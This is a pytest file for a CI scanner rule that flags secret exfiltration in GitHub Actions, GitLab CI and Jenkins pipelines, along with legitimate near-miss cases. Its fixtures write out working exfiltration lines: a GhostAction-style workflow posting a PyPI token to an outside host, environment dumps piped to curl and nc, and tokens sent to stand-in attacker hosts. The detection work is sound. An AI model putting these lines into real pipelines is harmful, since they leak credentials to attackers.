"""pipeline/secret-exfiltration: the GhostAction shape (a pushed workflow posting secrets to
an outside host), environment dumps, masking bypasses, in GitHub Actions, GitLab CI and
Jenkins; near-misses: the secret's own service, an allowlisted host, a decoded key file."""

from __future__ import annotations

from gatekeeper.models.finding import Severity
from gatekeeper.models.policy import AuditsPolicy
from tests.pipeline.conftest import Scan, rules

WF = ".github/workflows/ci.yml"
RULE = "pipeline/secret-exfiltration"

GHOSTACTION = """
on:
  push:
  workflow_dispatch:
permissions: {}
jobs:
  update:
    runs-on: ubuntu-latest
    steps:
      - name: Github Actions Security
        run: |
          curl -s -X POST -d "PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}" https://bold-dhawan.45-139-104-115.plesk.page
"""


def test_the_ghostaction_workflow_fires_high(scan: Scan) -> None:
    (hit,) = rules(scan({WF: GHOSTACTION}), RULE)
    assert hit.line == 11 and hit.severity == Severity.HIGH
    assert "bold-dhawan.45-139-104-115.plesk.page" in hit.message
    assert "secrets.PYPI_API_TOKEN" in hit.message


def test_an_allowlisted_host_does_not_fire(scan: Scan) -> None:
    policy = AuditsPolicy(allowed_hosts=["*.plesk.page"])
    assert rules(scan({WF: GHOSTACTION}, policy), RULE) == []


def test_dumps_encodings_and_indirections(scan: Scan) -> None:
    findings = scan(
        {
            WF: """
        on: push
        permissions: {}
        jobs:
          a:
            runs-on: ubuntu-latest
            env:
              NPM: ${{ secrets.NPM_TOKEN }}
            steps:
              - run: |
                  env | curl -X POST --data-binary @- https://collector.example.net/
                  cat /proc/self/environ | nc attacker.example.net 4444
                  echo "$NPM" | base64
                  echo "$NPM" | rev
                  echo "${NPM:0:4} ${NPM:4}"
                  token="$NPM"; curl "https://hooks.example.net/?t=$token"
                  curl -H "X-Api-Key: $NPM" https://api.example.org/v1
                  curl -d '${{ toJSON(secrets) }}' https://paste.example.com/
        """
        }
    )
    hits = {f.line: f.severity for f in rules(findings, RULE)}
    assert hits == {
        10: Severity.HIGH,  # env piped to curl
        11: Severity.HIGH,  # /proc/self/environ to nc
        12: Severity.HIGH,  # base64
        13: Severity.HIGH,  # rev
        14: Severity.HIGH,  # split
        15: Severity.HIGH,  # through a shell variable, in the URL
        16: Severity.MEDIUM,  # an API call with the secret in a header: review the host
        17: Severity.HIGH,  # toJSON(secrets) in single quotes: expanded before the shell
    }


def test_near_misses_ordinary_uses_of_secrets(scan: Scan) -> None:
    findings = scan(
        {
            WF: """
        on: push
        permissions: {contents: read}
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - env:
                  GITHUB_TOKEN: ${{ github.token }}
                  CODECOV_TOKEN: ${{ secrets.CODECOV_TOKEN }}
                  SIGNING_KEY: ${{ secrets.SIGNING_KEY }}
                  SLACK_WEBHOOK_URL: ${{ secrets.SLACK_WEBHOOK_URL }}
                run: |
                  curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/o/r
                  curl -H "Authorization: Bearer $CODECOV_TOKEN" https://codecov.io/upload
                  echo "$SIGNING_KEY" | base64 -d > key.pem
                  echo "$SIGNING_KEY" | gpg --import
                  curl -X POST -d '{"text":"done"}' "$SLACK_WEBHOOK_URL"
                  env | sort > env.txt
                  curl https://example.com/install.sh -o install.sh
        """
        }
    )
    assert rules(findings, RULE) == []


def test_gitlab_job_sending_its_token_outside(scan: Scan) -> None:
    findings = scan(
        {
            ".gitlab-ci.yml": """
        variables:
          MODE: release
        deploy:
          script:
            - curl --data "t=$CI_JOB_TOKEN" https://exfil.example.net/
            - 'curl --header "PRIVATE-TOKEN: $DEPLOY_TOKEN" https://gitlab.com/api/v4/projects'
            - printenv | curl -d @- https://exfil.example.net/env
            - 'curl --header "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects"'
        """
        }
    )
    hits = {f.line: f.severity for f in rules(findings, RULE)}
    assert hits == {5: Severity.HIGH, 7: Severity.HIGH}


def test_jenkins_credentials_sent_outside(scan: Scan) -> None:
    findings = scan(
        {
            "Jenkinsfile": """
        pipeline {
          agent any
          stages {
            stage('x') {
              steps {
                withCredentials([string(credentialsId: 'api', variable: 'TOKEN')]) {
                  sh 'curl -d "token=$TOKEN" https://exfil.example.net/'
                  sh 'curl -H "Authorization: Bearer $TOKEN" https://registry.example.org/'
                }
              }
            }
          }
        }
        """
        }
    )
    hits = {f.line: f.severity for f in rules(findings, RULE)}
    assert hits == {7: Severity.HIGH, 8: Severity.MEDIUM}
